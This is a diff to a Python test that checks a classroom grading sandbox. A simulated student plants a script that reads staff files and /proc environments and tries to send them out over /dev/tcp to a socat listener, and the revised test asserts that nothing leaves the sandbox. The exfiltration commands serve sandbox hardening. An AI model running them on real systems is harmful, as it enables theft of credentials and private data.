@@ -383,18 +383,21 @@ def prove_check(classroom: Classroom, anna: Student) -> None:
 
 
 def prove_checker_sandbox(classroom: Classroom, anna: Student) -> None:
-    """An rc may run programs in the checker; they send anna everything within reach, and nothing of the staff's."""
+    """An rc may run programs in the checker: they reach nothing of the staff's, and can send nothing."""
     anna.type("socat -u TCP-LISTEN:5555,reuseaddr OPEN:/tmp/stolen,creat,append 2>/dev/null & sleep 1")
-    thief = "exec 3<>/dev/tcp/class/5555; { id; cat /staff/*; cat /proc/[0-9]*/environ; ls /proc/1/fd/; } >&3 2>&3"
+    reach = "{ id; cat /staff/*; cat /proc/[0-9]*/environ; ls /proc/1/fd/; } >/tmp/found 2>&1"
+    thief = f"{reach}; exec 3<>/dev/tcp/class/5555; cat /tmp/found >&3"
     anna.type(f"printf '%s\\n' {shlex.quote(thief)} >~/steal; echo '!bash ~/steal' >rc")
     anna.type("check 3")
-    stolen = anna.type("sleep 1; cat /tmp/stolen; rm -f /tmp/stolen ~/steal")
-    assert re.match(r"uid=300\d", stolen), stolen
-    assert "Permission denied" in stolen
+    sent = anna.type("sleep 1; cat /tmp/stolen; rm -f /tmp/stolen ~/steal; pkill socat")
+    assert sent.strip() == "cat: /tmp/stolen: No such file or directory"
+    found = classroom.must("exec", "-T", "checker", "sh", "-c", "cat /tmp/found; rm /tmp/found")
+    assert re.match(r"uid=300\d", found), found
+    assert "Permission denied" in found
     slips = classroom.must("run", "--rm", "-T", "teacher", "learners").splitlines()[1:]
     secrets = [word for line in slips if not line.startswith("anna") for word in line.split()[1:]]
-    assert [word for word in secrets if word in stolen] == []
-    assert "PRIVATE KEY" not in stolen
+    assert [word for word in secrets if word in found] == []
+    assert "PRIVATE KEY" not in found
 
 
 def prove_ssh(classroom: Classroom) -> None:
